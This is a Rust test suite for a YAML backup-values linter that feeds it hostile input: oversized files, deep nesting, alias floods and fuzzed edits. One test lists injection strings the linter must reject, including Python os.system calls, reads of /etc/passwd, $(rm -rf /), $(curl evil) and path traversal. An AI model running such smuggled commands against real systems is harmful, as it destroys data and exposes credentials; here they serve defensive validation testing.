//! Hostile input: nothing panics, hangs or runs away, and every problem is a finding with a
//! position. The committed cases are in `fixtures/hostile/`; the ones too large to commit are
//! generated here. A watchdog fails a case that does not finish (a hang detector, not a timing
//! test: the limit is orders of magnitude above the real cost).

use proptest::prelude::*;
use std::path::{Path, PathBuf};
use std::sync::mpsc;
use std::time::Duration;
use stsbackup::{Finding, Severity};

const WATCHDOG: Duration = Duration::from_secs(120);

fn hostile_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/hostile")
}

/// Loads and validates bytes on a thread with a 2 MiB stack (what async runtimes give), failing
/// if it panics or does not finish.
fn lint_bytes(name: &str, bytes: Vec<u8>) -> Vec<Finding> {
    let name = name.to_owned();
    let (sender, receiver) = mpsc::channel();
    let worker = std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(move || {
            let document = stsbackup::load_bytes(name, &bytes);
            let report = stsbackup::validate(&document);
            let line_count = document.source().text().lines().count().max(1);
            let _ = sender.send((report.findings, line_count, document.problems.is_empty()));
        })
        .unwrap();
    let (findings, line_count, read_cleanly) = receiver
        .recv_timeout(WATCHDOG)
        .unwrap_or_else(|_| panic!("did not finish (or panicked) within {WATCHDOG:?}"));
    worker.join().unwrap();
    for finding in &findings {
        assert!(
            finding.position.line >= 1 && finding.position.line <= line_count + 1,
            "{finding}"
        );
        assert!(finding.position.column >= 1, "{finding}");
    }
    if !read_cleanly {
        assert!(
            findings.iter().any(|f| f.severity == Severity::Error),
            "a reading problem without an error finding"
        );
    }
    findings
}

fn codes(findings: &[Finding]) -> Vec<&'static str> {
    findings.iter().map(|f| f.code()).collect()
}

#[test]
fn every_committed_hostile_file_is_linted_without_panic() {
    let mut count = 0;
    for entry in std::fs::read_dir(hostile_dir()).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "yaml") {
            continue;
        }
        let bytes = std::fs::read(&path).unwrap();
        lint_bytes(&path.display().to_string(), bytes);
        count += 1;
    }
    assert!(count >= 15, "{count} hostile files");
}

#[test]
fn specific_hostile_files_give_the_expected_findings() {
    let lint = |name: &str| {
        codes(&lint_bytes(
            name,
            std::fs::read(hostile_dir().join(name)).unwrap(),
        ))
    };
    assert_eq!(lint("nul-byte.yaml"), ["SB001"]);
    assert_eq!(lint("tab-indentation.yaml"), ["SB001"]);
    assert_eq!(lint("recursive-alias.yaml"), ["SB001"]);
    assert_eq!(lint("unterminated-quote.yaml"), ["SB001"]);
    assert_eq!(lint("list-top.yaml"), ["SB003"]);
    assert_eq!(lint("scalar-top.yaml"), ["SB003"]);
    assert_eq!(lint("complex-keys.yaml"), ["SB006", "SB006", "SB006"]);
    assert!(lint("several-documents.yaml").contains(&"SB004"));
    assert_eq!(
        lint("duplicate-keys.yaml")
            .iter()
            .filter(|c| **c == "SB002")
            .count(),
        2
    );
    assert!(lint("empty.yaml").is_empty());
    assert!(lint("comment-only.yaml").is_empty());
    assert!(lint("byte-order-mark.yaml").is_empty());
}

#[test]
fn fifty_mebibytes_are_refused_before_reading() {
    let bytes = vec![b'#'; 50 * 1024 * 1024];
    assert_eq!(codes(&lint_bytes("big.yaml", bytes)), ["SB007"]);
}

#[test]
fn ten_thousand_levels_of_nesting_are_a_finding() {
    let flow = "a: ".to_owned() + &"[".repeat(10_000) + &"]".repeat(10_000) + "\n";
    assert_eq!(
        codes(&lint_bytes("flow.yaml", flow.into_bytes())),
        ["SB001"]
    );
    // Block nesting needs indentation: 3,000 levels already take 4.5 MB.
    let mut block = String::new();
    for level in 0..3_000 {
        block.push_str(&" ".repeat(level));
        block.push_str("k:\n");
    }
    assert_eq!(
        codes(&lint_bytes("block.yaml", block.into_bytes())),
        ["SB001"]
    );
}

#[test]
fn many_anchors_and_aliases_are_bounded() {
    let mut text = String::from("anchors:\n");
    for i in 0..60_000 {
        text.push_str(&format!("  k{i}: &a{i} v\n"));
    }
    let findings = lint_bytes("anchors.yaml", text.into_bytes());
    assert_eq!(codes(&findings), ["SB001"], "{findings:?}");
    let mut text = String::from("base: &x [1, 2, 3]\nuses:\n");
    for i in 0..20_000 {
        text.push_str(&format!("  u{i}: *x\n"));
    }
    lint_bytes("aliases.yaml", text.into_bytes());
}

#[test]
fn very_long_lines_are_fine() {
    let text = format!(
        "backup:\n  stackGraph:\n    bucketName: {}\n",
        "a".repeat(1024 * 1024)
    );
    let findings = lint_bytes("long.yaml", text.into_bytes());
    assert!(codes(&findings).contains(&"SB201"));
}

#[test]
fn injection_attempts_in_values_the_chart_evaluates_are_errors() {
    let cases: &[(&str, &str, &[&str])] = &[
        (
            "stackGraph",
            "backupRetentionTimeDelta",
            &[
                "days=__import__('os').system('id')",
                "days=30); import os; os.system('id'",
                "days=30)\nprint(1",
                "days=eval('30')",
                "**{'days': 30}",
                "days=30 if True else 1",
                "days=[30][0]",
                "days=open('/etc/passwd').read()",
                "days=30, **globals()",
                "days=1e309",
                "days=0x1e",
                "days=int('30')",
                "days=30;rm -rf /",
            ],
        ),
        (
            "stackGraph",
            "backupNameTemplate",
            &[
                "sts-backup-$(rm -rf /).graph",
                "sts-backup-`id`.graph",
                "sts-backup-${HOME}.graph",
                "sts-backup-$((1+1)).graph",
                "sts-backup-$(date +%Y)\"; rm -rf /; echo \".graph",
                "sts-backup-$(date +%Y; id).graph",
                "sts-backup-$(date +%Y)$(curl evil).graph",
                "sts-backup-$(date +%Y) && id.graph",
                "sts-backup-$(date +%Y)|id.graph",
                "sts-backup-$(date +%Y)>/etc/x.graph",
                "../../etc/passwd",
                "sts-backup-$IFS.graph",
                "sts-backup-\\$(id).graph",
            ],
        ),
        (
            "elasticsearch",
            "indices",
            &[
                "sts*\", \"ignore_unavailable\": true, \"x\": \"",
                "[\"*\"], \"include_global_state\": true",
                "[\"*\"]}, \"retention\": {}, \"x\": {",
                "sts*\\",
                "sts*\u{0}",
                "sts*\n\"",
            ],
        ),
    ];
    for (store, key, values) in cases {
        let scheduled = "scheduled";
        for value in *values {
            let text = format!(
                "backup:\n  {store}:\n    {scheduled}:\n      {key}: {}\n",
                serde_json::to_string(value).unwrap()
            );
            let findings = lint_bytes("injection.yaml", text.into_bytes());
            let path = format!("backup.{store}.{scheduled}.{key}");
            assert!(
                findings
                    .iter()
                    .any(|f| f.severity == Severity::Error && f.path == path),
                "{path} = {value:?} is not an error: {findings:?}"
            );
        }
    }
}

/// Text-level mutations of a valid values file: what a careless edit does.
#[derive(Clone, Debug)]
enum Mutation {
    DeleteLine(usize),
    DuplicateLine(usize),
    ReplaceChar(usize, char),
    InsertChar(usize, char),
    Indent(usize, i8),
    SwapLines(usize, usize),
}

fn apply(text: &str, mutation: &Mutation) -> String {
    let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
    if lines.is_empty() {
        return text.to_owned();
    }
    let n = lines.len();
    match *mutation {
        Mutation::DeleteLine(i) => {
            lines.remove(i % n);
        }
        Mutation::DuplicateLine(i) => {
            let line = lines[i % n].clone();
            lines.insert(i % n, line);
        }
        Mutation::ReplaceChar(i, c) | Mutation::InsertChar(i, c) => {
            let mut chars: Vec<char> = lines.join("\n").chars().collect();
            let at = i % chars.len().max(1);
            if matches!(mutation, Mutation::ReplaceChar(..)) && !chars.is_empty() {
                chars[at] = c;
            } else {
                chars.insert(at, c);
            }
            return chars.into_iter().collect();
        }
        Mutation::Indent(i, by) => {
            let line = &mut lines[i % n];
            if by > 0 {
                line.insert_str(0, &" ".repeat(by as usize));
            } else {
                let strip = line.len() - line.trim_start().len();
                line.drain(..strip.min((-by) as usize));
            }
        }
        Mutation::SwapLines(a, b) => lines.swap(a % n, b % n),
    }
    lines.join("\n") + "\n"
}

fn mutation() -> impl Strategy<Value = Mutation> {
    let interesting = prop_oneof![
        Just(':'),
        Just(' '),
        Just('\t'),
        Just('"'),
        Just('\''),
        Just('#'),
        Just('-'),
        Just('['),
        Just('{'),
        Just('&'),
        Just('*'),
        Just('!'),
        Just('|'),
        Just('>'),
        Just('%'),
        Just('@'),
        Just('`'),
        Just('\n'),
        Just('0'),
        Just('é'),
        Just('\u{0}'),
        any::<char>()
    ];
    prop_oneof![
        any::<usize>().prop_map(Mutation::DeleteLine),
        any::<usize>().prop_map(Mutation::DuplicateLine),
        (any::<usize>(), interesting.clone()).prop_map(|(i, c)| Mutation::ReplaceChar(i, c)),
        (any::<usize>(), interesting).prop_map(|(i, c)| Mutation::InsertChar(i, c)),
        (any::<usize>(), -4i8..4).prop_map(|(i, d)| Mutation::Indent(i, d)),
        (any::<usize>(), any::<usize>()).prop_map(|(a, b)| Mutation::SwapLines(a, b)),
    ]
}

fn valid_fixture_texts() -> Vec<String> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/valid");
    let mut texts: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "yaml"))
        .map(|p| std::fs::read_to_string(p).unwrap())
        .collect();
    texts.sort();
    texts
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn mutated_fixtures_always_lint_to_a_result(
        fixture in any::<prop::sample::Index>(),
        mutations in prop::collection::vec(mutation(), 1..6),
    ) {
        let texts = valid_fixture_texts();
        let mut text = texts[fixture.index(texts.len())].clone();
        for mutation in &mutations {
            text = apply(&text, mutation);
        }
        let document = stsbackup::load_str("mutated.yaml", &text);
        let report = stsbackup::validate(&document);
        for finding in &report.findings {
            prop_assert!(finding.position.line >= 1);
            prop_assert!(!finding.message.is_empty());
        }
    }
}
